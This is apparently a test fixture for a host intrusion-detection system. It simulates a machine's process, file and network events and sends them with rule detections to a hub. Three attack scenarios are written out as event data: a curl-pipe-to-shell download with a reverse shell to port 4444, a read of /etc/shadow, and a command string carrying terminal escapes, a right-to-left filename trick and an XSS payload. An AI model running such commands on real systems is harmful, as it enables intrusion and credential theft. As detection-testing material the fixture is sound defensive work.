"""A small estate that is told to a running hub as an agent would: column batches, facts, detections by the real engine with the real rules.

Everything is made of the model's own objects and goes through the agent's own routes; only the machine behind it does not exist.
"""

from __future__ import annotations

import http.client
import itertools
import random
import socket
import time
from pathlib import Path

import msgspec

from phalanx.content import rule_files
from phalanx.detect import Engine
from phalanx.language import RuleSource, load_rules
from phalanx.model.columns import Coverage
from phalanx.model.container import Container, Mount
from phalanx.model.event import Connect, Dup, Event, Exec, Exit, Loss, Open
from phalanx.model.ids import ProcessId
from phalanx.model.process import Descriptor, Process
from phalanx.model.report import AgentStatus, Feature, LossCount, Report
from phalanx.store.events.flatten import flatten

AGENT = "00aa11bb22cc33dd"
HOST = "node-04"
S = 1_000_000_000
HOSTILE = 'echo \x1b[2J\x1b[H; mv invoice\u202efdp.sh /tmp; <img src=x onerror="alert(1)">\uf7ff'
_BOOT = "5eed0000-0000-4000-8000-000000000000"


class LocalConnection(http.client.HTTPConnection):
    """HTTP over the hub's Unix socket: the kernel tells the hub who we are."""

    def __init__(self, path: Path) -> None:
        super().__init__("localhost", timeout=30)
        self._path = path

    def connect(self) -> None:
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.sock.settimeout(30)
        self.sock.connect(str(self._path))


def post(path: Path, route: str, body: bytes, kind: str) -> None:
    """Send one body; AssertionError when the hub does not acknowledge it."""
    connection = LocalConnection(path)
    try:
        connection.request("POST", route, body, {"content-type": kind})
        answer = connection.getresponse()
        text = answer.read()
        assert answer.status in (200, 201), (answer.status, text[:500])
    finally:
        connection.close()


def rules_version(path: Path) -> str:
    """The version of the rule set that the hub serves."""
    connection = LocalConnection(path)
    try:
        connection.request("GET", "/agent/v1/rules?version=none")
        return str(msgspec.json.decode(connection.getresponse().read())["version"])
    finally:
        connection.close()


class Machine:
    """One host whose processes act; what they do is kept until it is told."""

    def __init__(self, socket_path: Path, *, now_ns: int | None = None) -> None:
        self.socket = socket_path
        self.base = now_ns if now_ns is not None else time.time_ns()
        self.start = self.base - 900 * S
        self._numbers = itertools.count(1)
        self._pids = itertools.count(2101)
        self._batches = itertools.count(1)
        self.engine = Engine(load_rules([RuleSource(name, text) for name, text in rule_files()]))
        self.told_until = self.start
        self.events: list[Event] = []
        self.processes: dict[int, Process] = {}
        self.init = self.process("systemd", parent=None, pid=1)
        self.shim = self.process("containerd-shim", "-namespace", "k8s.io", parent=self.init, pid=811)
        self.shop = Container(
            id="7f21c0d9a4b6",
            full_id="7f21c0d9a4b6" + "0" * 52,
            since_ns=self.start,
            name="order-api",
            runtime="containerd",
            image="registry.internal/shop/order-api:2.3.1",
            image_digest="sha256:9f3c" + "a" * 60,
            privileged=False,
            mounts=(
                Mount(source="/proc", destination="/host/proc"),
                Mount(source="data", destination="/data", writable=False),
            ),
        )
        self.report_job = Container(
            id="41be77c0ffee",
            full_id="41be77c0ffee" + "1" * 52,
            since_ns=self.start,
            name="report",
            runtime="containerd",
            image="registry.internal/shop/report:1.8",
            privileged=True,
        )

    def process(
        self,
        name: str,
        *argv: str,
        parent: Process | None,
        pid: int | None = None,
        user: str = "root",
        container: str = "host",
        exepath: str = "",
        **more: object,
    ) -> Process:
        """A new process; its parent is as it was."""
        number = pid if pid is not None else next(self._pids)
        made = Process(
            id=ProcessId(f"5eed0000:{number}:{number * 1000}"),
            pid=number,
            start_ns=number * 1000,
            ppid=parent.pid if parent else None,
            name=name,
            exe=name,
            exepath=exepath or f"/usr/bin/{name}",
            argv=argv,
            uid=0 if user == "root" else 1000,
            user=user,
            loginuid=-1,
            container_id=container,
            cwd="/",
            parent=parent,
            **more,  # type: ignore[arg-type]
        )
        self.processes[number] = made
        return made

    def _head(self, at: int, process: Process | None, kind: str) -> dict[str, object]:
        container = None
        if process is not None and process.container_id != "host":
            container = self.shop if process.container_id == self.shop.id else self.report_job
        return {
            "ts_ns": at,
            "agent": AGENT,
            "seq": next(self._numbers),
            "type": kind,
            "process": process,
            "container": container,
            "tid": process.pid if process else 0,
        }

    def exec(self, at: int, process: Process) -> Event:
        """It started a program."""
        event = Exec(**self._head(at, process, "execve"), filename=process.exepath, ret=0)  # type: ignore[arg-type]
        self.events.append(event)
        return event

    def exit(self, at: int, process: Process) -> None:
        """It ended."""
        self.events.append(Exit(**self._head(at, process, "procexit"), ret=0, duration_ns=5_000_000))  # type: ignore[arg-type]

    def open(self, at: int, process: Process, path: str, *, write: bool = False) -> None:
        """It opened a file."""
        flags = "O_WRONLY|O_CREAT" if write else "O_RDONLY"
        fd = Descriptor(num=3, type="f", name=path)
        self.events.append(
            Open(
                **self._head(at, process, "openat"),
                name=path,
                flags=flags,
                is_read=not write,
                is_write=write,
                fd=fd,
                ret=3,
            )
        )  # type: ignore[arg-type]

    def connect(self, at: int, process: Process, address: str, port: int) -> None:
        """It connected."""
        fd = Descriptor(
            num=4,
            type="4",
            name=f"10.42.0.9:41000->{address}:{port}",
            l4proto="tcp",
            cip="10.42.0.9",
            cport=41000,
            sip=address,
            sport=port,
            connected=True,
        )
        self.events.append(Connect(**self._head(at, process, "connect"), addr=f"{address}:{port}", fd=fd, ret=0))  # type: ignore[arg-type]

    def reverse_shell(self, at: int, address: str = "203.0.113.77") -> None:
        """A server in a container starts a shell whose standard input is an outgoing connection."""
        java = self.process("java", "-jar", "/app/order-api.jar", parent=self.shim, container=self.shop.id)
        shell = self.process("sh", "-c", f"curl -s {address}/p | sh", parent=java, container=self.shop.id)
        curl = self.process("curl", "-s", f"http://{address}/p", parent=shell, container=self.shop.id)
        bash = self.process("bash", "-i", parent=shell, container=self.shop.id)
        self.exec(at, shell)
        self.exec(at + 4_000_000, curl)
        self.connect(at + 6_000_000, curl, address, 80)
        self.exec(at + 52_000_000, bash)
        fd = Descriptor(
            num=0,
            type="4",
            name=f"10.42.0.9:41002->{address}:4444",
            l4proto="tcp",
            cip="10.42.0.9",
            cport=41002,
            sip=address,
            sport=4444,
            connected=True,
        )
        self.events.append(Dup(**self._head(at + 61_000_000, bash, "dup2"), oldfd=5, newfd=0, fd=fd, ret=0))  # type: ignore[arg-type]
        child = self.process("id", parent=bash, container=self.shop.id)
        self.exec(at + 1_800_000_000, child)

    def read_shadow(self, at: int) -> None:
        """An unexpected program reads the password hashes."""
        login = self.process("bash", "-l", parent=self.init, user="ada")
        cat = self.process("cat", "/etc/shadow", parent=login, user="root")
        self.exec(at, cat)
        self.open(at + 2_000_000, cat, "/etc/shadow")

    def hostile(self, at: int) -> None:
        """A command line that wants to be more than text."""
        job = self.process("python3", "/srv/report.py", parent=self.shim, container=self.report_job.id, user="app")
        self.exec(at, self.process("sh", "-c", HOSTILE, parent=job, container=self.report_job.id, user="app"))

    def ordinary(self, since: int, until: int, count: int, seed: int = 7) -> None:
        """Work as it is: builds, web, cron."""
        choose = random.Random(seed)
        nginx = self.process("nginx", "-g", "daemon off;", parent=self.shim, container=self.shop.id)
        make = self.process("make", "-C", "/src", parent=self.init, user="ada")
        for _ in range(count):
            at = choose.randrange(since, until)
            kind = choose.random()
            if kind < 0.4:
                file = choose.choice(["socket", "core", "route", "tls"])
                started = self.process(
                    "gcc", "-O2", "-c", f"net/{file}.c", "-o", f"net/{file}.o", parent=make, user="ada"
                )
                self.exec(at, started)
                self.exit(at + 40_000_000, started)
            elif kind < 0.7:
                self.connect(at, nginx, f"10.42.{choose.randrange(4)}.{choose.randrange(2, 200)}", 8080)
            else:
                self.open(at, make, f"/src/build/{choose.randrange(50)}.o", write=True)

    def lose(self, at: int, count: int) -> None:
        """The ring buffer was full."""
        self.events.append(
            Loss(**self._head(at, None, "loss"), count=count, cause="ring_full", since_ns=at - 260_000_000)
        )  # type: ignore[arg-type]

    def tell(self, until: int, *, gap_before: bool = False) -> None:
        """Send what happened up to ``until``: the batch, what the rules say of it, and how the agent is."""
        events, self.events = sorted(self.events, key=lambda event: event.ts_ns), []
        number = next(self._batches)
        coverage = [Coverage(kind="*", since_ns=self.told_until, until_ns=until)]
        self.told_until = until
        block = flatten(
            events, batch=f"{AGENT}-{self.base}-{number}", agent=AGENT, host=HOST, boot=_BOOT, coverage=coverage
        )
        post(self.socket, "/agent/v1/batches", block, "application/octet-stream")
        detections = [found for event in events if not isinstance(event, Loss) for found in self.engine.feed(event)]
        losses = tuple(event for event in events if isinstance(event, Loss))
        now = time.time_ns()
        report = Report(
            report=f"{AGENT}-{self.base}-report-{number}",
            agent=AGENT,
            host=HOST,
            boot=_BOOT,
            sent_ns=now,
            detections=tuple(detections),
            facts=(self.shop, self.report_job),
            losses=losses,
            processes=tuple(
                msgspec.structs.replace(p, parent=None) for p in self.processes.values() if p.name != "gcc"
            ),
            status=AgentStatus(
                version="0.1.0",
                started_ns=self.start,
                kernel="6.1.0-26-amd64",
                lag_p95_ms=12.0,
                events_per_s=540.0,
                events_total=100_000,
                memory_bytes=84 << 20,
                rules_version=rules_version(self.socket),
                lost=tuple(LossCount(cause="ring_full", count=loss.count, last_ns=loss.ts_ns) for loss in losses),
                features=(
                    Feature(name="process_exec", available=True),
                    Feature(name="call_open", available=True),
                    Feature(
                        name="call_message",
                        available=False,
                        why="this kernel has no such tracepoint; DNS names are not seen",
                    ),
                ),
            ),
        )
        post(self.socket, "/agent/v1/reports", msgspec.json.encode(report), "application/json")

    def morning(self) -> None:
        """A quarter of an hour with ordinary work, three attacks and one loss."""
        self.ordinary(self.start, self.base - 2 * S, 900)
        self.read_shadow(self.base - 500 * S)
        self.reverse_shell(self.base - 180 * S)
        self.lose(self.base - 120 * S, 1204)
        self.hostile(self.base - 20 * S)
        self.tell(self.base)
